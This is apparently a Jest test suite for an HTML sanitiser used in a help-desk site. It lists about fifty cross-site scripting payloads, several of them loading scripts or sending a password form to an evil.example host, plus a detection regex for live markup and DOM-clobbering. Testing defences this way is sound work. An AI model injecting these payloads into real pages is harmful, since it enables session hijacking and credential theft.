import { describe, expect, it } from '@jest/globals';
import { sanitize } from './sanitizer.js';

/** What could run, load or send something: an element, a handler, or an address of a scheme that does. */
const alive =
  /<(?!\/?(?:h[1-6]|p|br|hr|blockquote|pre|ul|ol|li|table|thead|tbody|tr|th|td|strong|em|s|code|a|img)\b)|<[^>]*\s(?:on\w+|style|srcset|formaction|id|name)\s*=|(?:href|src)\s*=\s*["']?\s*(?:javascript|data|vbscript|file|blob|\/\/)/i;

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" / >',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://evil.example 1x" src="http://evil.example/track.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" target="_blank">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x onclick=alert(1)>x</x>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<p id="x" name="y" class="admin">clobber</p>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert`1`>",
];

describe('the sanitiser', () => {
  it.each(payloads)('leaves nothing alive of %s', (payload) => {
    const clean = sanitize(payload);
    expect(clean).not.toMatch(alive);
    expect(sanitize(clean)).toBe(clean);
  });

  it('lets through what a text is made of', () => {
    const text =
      '<h2>Title</h2><p>Some <strong>bold</strong> <a href="https://help.example/a?b=c&amp;d" title="there" rel="noopener noreferrer">link</a></p>' +
      '<pre><code class="language-sh">ls</code></pre><ol start="3"><li>three</li></ol>' +
      '<img src="https://help.example/a.png" alt="a" title="b" /><table><thead><tr><th>a</th></tr></thead></table>';
    expect(sanitize(text)).toBe(text);
  });

  it('gives every link away without a way back, and keeps links within the site', () => {
    expect(sanitize('<a href="/faq#cards">x</a><a href="mailto:help@desk.example">y</a>')).toBe(
      '<a href="/faq#cards" rel="noopener noreferrer">x</a><a href="mailto:help@desk.example" rel="noopener noreferrer">y</a>',
    );
  });

  it('bears elements that are nested without an end', () => {
    expect(sanitize('<blockquote>'.repeat(20_000)).length).toBeLessThan(10_000);
    expect(sanitize(`${'<p><em>'.repeat(20_000)}x`)).toContain('x');
  });
});
